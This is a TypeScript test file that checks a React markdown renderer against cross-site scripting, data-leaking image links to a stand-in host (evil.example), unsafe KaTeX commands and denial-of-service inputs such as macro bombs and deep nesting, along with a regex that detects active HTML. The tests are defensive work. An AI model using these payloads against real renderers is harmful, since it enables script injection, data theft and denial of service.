import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { MarkdownBlock } from './MarkdownBlock.tsx'

const render = (text: string) => renderToStaticMarkup(<MarkdownBlock text={text} />)

/** Tags and attributes that load, run or lead somewhere. */
const ACTIVE =
  /<(?:img|script|svg\s|iframe|object|embed|form|link|style|video|audio|base|meta)\b|\son\w+=|\ssrc(?:set)?=/i

describe('MarkdownBlock', () => {
  it('shows emphasis, tables and mathematics', () => {
    const html = render('**bold** and $x^2$\n\n| a | b |\n|---|---|\n| 1 | 2 |')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('class="katex"')
    expect(html).toContain('<td>1</td>')
  })

  it('keeps two prices apart from mathematics', () => {
    expect(render('$5 and $6')).toBe('<p>$5 and $6</p>')
  })

  it.each([
    '<img src=x onerror=alert(1)>',
    'text <img src="https://evil.example/?d=1"> text',
    '<svg onload=alert(1)></svg>',
    '<script>alert(1)</script>',
    '<style>p{background:url(https://evil.example)}</style>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '<div style="background:url(https://evil.example)">x</div>',
  ])('shows the HTML of %j as text', (text) => {
    const html = render(text)
    expect(html.replaceAll(/&lt;[\s\S]*?&gt;/g, '')).not.toMatch(ACTIVE)
    expect(html).toContain('&lt;')
  })

  it.each([
    '![x](https://evil.example/?d=secret)',
    '![x][r]\n\n[r]: https://evil.example/?d=secret',
    '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '[![x](https://evil.example/?d=secret)](https://evil.example)',
  ])('loads no image for %j and shows its address', (text) => {
    const html = render(text)
    expect(html).not.toMatch(ACTIVE)
    expect(html).toContain('image not loaded: x')
  })

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](java&#10;script:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:alert(1))',
    '[x](#/settings)',
    '[x](//evil.example)',
    '<javascript:alert(1)>',
  ])('makes no link of %j', (text) => {
    expect(render(text)).not.toContain('href')
  })

  it('opens a link apart from this page and names its host', () => {
    expect(render('[docs](https://example.org/a)')).toBe(
      '<p><a href="https://example.org/a" target="_blank" rel="noopener noreferrer">docs<span data-place="true"> (example.org)</span></a></p>',
    )
  })

  it.each([
    '$\\href{javascript:alert(1)}{x}$',
    '$\\url{https://evil.example}$',
    '$\\includegraphics{https://evil.example/x.png}$',
    '$\\htmlData{onclick=alert(1)}{x}$',
    '$\\htmlStyle{background:url(https://evil.example)}{x}$',
    '$\\htmlClass{x}{y}$',
  ])('refuses the command in %j', (text) => {
    const html = render(text)
    expect(html).not.toMatch(ACTIVE)
    expect(html).not.toMatch(/<a\b|href=|data-onclick|style="[^"]*url\(/)
  })

  it('escapes mathematics that cannot be read', () => {
    const html = render('$\\frac{<img src=x onerror=alert(1)>$')
    expect(html).not.toMatch(/<img/)
    expect(html).toContain('katex-error')
  })

  it.each([
    [
      'macro bomb',
      '$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d$',
    ],
    ['endless macro', '$\\def\\a{\\a\\a}\\a$'],
    ['huge rule', '$\\rule{1e9em}{1e9em}$'],
    ['long line', 'x'.repeat(5_000_000)],
    ['quotes in quotes', '>'.repeat(100_000)],
    ['lists in lists', '- '.repeat(5000)],
    [
      'lists in lists over lines',
      Array.from({ length: 190 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n'),
    ],
    ['brackets', '['.repeat(19_000)],
    ['links without end', '[a]('.repeat(4000)],
    ['emphasis without end', '*a **b '.repeat(2500)],
    ['unclosed tags', '<a '.repeat(6000)],
    ['backticks', Array.from({ length: 190 }, (_, count) => '`'.repeat(count)).join('a')],
    ['braces', `$${'{'.repeat(1900)}$`],
    ['a wide table', `|${'a|'.repeat(5000)}\n|${'-|'.repeat(5000)}`],
  ])('is done with a %s soon', (_, text) => {
    const started = performance.now()
    expect(render(text).length).toBeGreaterThan(0)
    expect(performance.now() - started).toBeLessThan(3000)
  })
})
